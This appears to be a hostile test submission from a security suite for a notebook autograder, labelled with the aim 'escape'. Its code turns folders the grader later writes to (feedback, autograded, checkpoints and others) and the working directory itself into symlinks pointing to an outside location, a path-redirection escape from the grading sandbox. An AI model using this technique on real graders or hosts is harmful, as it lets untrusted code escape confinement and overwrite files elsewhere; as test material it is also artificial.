# story: Folders that the grader may write to later become links to one outside.
# aim: escape
# stock: escape

# %% last
import os
import shutil

here = os.getcwd()
for name in ("plain_files", ".ipynb_checkpoints", "feedback", "autograded", "run", "work"):
    try:
        os.symlink(known.outside, name)
    except OSError:
        pass
try:
    os.rename(here, here + "-away")
    os.symlink(known.outside, here)
except OSError:
    pass
